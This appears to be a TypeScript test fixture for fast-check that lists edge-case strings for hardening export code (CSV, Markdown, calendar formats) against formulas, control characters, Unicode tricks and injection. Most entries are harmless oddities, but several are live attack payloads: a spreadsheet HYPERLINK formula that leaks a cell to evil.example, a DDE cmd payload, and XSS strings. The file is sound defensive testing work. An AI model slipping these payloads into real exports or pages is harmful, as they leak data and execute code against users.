/** Texts that break exports which do not expect them: formulas, marks, line ends, controls, other scripts. */
import fc from 'fast-check';

export const NASTY_TEXTS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("https://evil.example?leak="&A1,"click")',
  '+1+1',
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\tindented',
  '\r\nsecond line',
  '\nsecond line',
  '\0nothing',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  "''quoted",
  'a "quoted" word, a comma; a semicolon',
  'two\r\nlines',
  'two\nlines',
  ' outer blanks ',
  '"',
  '""',
  '',
  ',',
  'sep=;',
  '\uFEFFbom inside',
  'BEGIN:VCALENDAR\nEND:VCALENDAR',
  'a\\,b;c\\nd',
  '| cell | break |',
  '# heading',
  '---\ntitle: front matter\n---',
  '```\nfence\n```',
  '- [ ] task',
  '[x](javascript:alert(1))',
  '<img src=x onerror=alert(1)>',
  '![x](https://evil.example/track.png)',
  '{% include x %}',
  'rechts \u202Elinks',
  '漢字 и кириллица 👩‍👩‍👧‍👦 é',
  `${'long '.repeat(60)}🙂 end`,
];

const SIGNS = [...'=+-@"\',;|\\\r\n\t #*_`<>[]():&=\0', 'ä', '漢', '🙂', '＝', 'a', '1'];

/** Those texts, any text, and any run of the signs that mean something to a format. */
export const nastyText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...NASTY_TEXTS),
  fc.string({ unit: 'grapheme' }),
  fc.array(fc.constantFrom(...SIGNS)).map((signs) => signs.join('')),
);
